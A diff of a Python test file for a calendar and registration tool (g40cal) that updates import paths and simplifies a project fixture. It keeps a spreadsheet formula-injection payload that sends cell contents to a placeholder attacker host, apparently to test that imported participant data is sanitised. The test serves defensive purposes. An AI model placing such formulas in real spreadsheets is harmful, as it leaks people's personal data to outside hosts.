@@ -13,9 +13,9 @@ import pytest
 from openpyxl import load_workbook
 
 from g40cal.config import load_config
-from g40cal.participants import Registration, insert_participant, put_registration
+from g40cal.people.participants import Registration, insert_participant, put_registration
 from g40cal.state import State
-from tests.participants_support import ZAANDAM, new_project, ok, people, run
+from tests.participants_support import ZAANDAM, ok, people, published_project, run
 
 ATTACK = '=WEBSERVICE("https://attacker.example/c?"&E3&E4)'
 HEADER = "Tijdstempel,Naam,E-mailadres,Organisatie\n"
@@ -24,10 +24,7 @@ HEADER = "Tijdstempel,Naam,E-mailadres,Organisatie\n"
 @pytest.fixture
 def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.delenv("G40CAL_STATE", raising=False)
-    project = new_project(tmp_path / "project")
-    (project / "g40cal.toml").write_text(
-        '[network]\nbase_url = "https://agenda.g40.example/"\n', encoding="utf-8")
-    return project
+    return published_project(tmp_path / "project")
 
 
 def import_text(root: Path, tmp_path: Path, body: str, *extra: str):
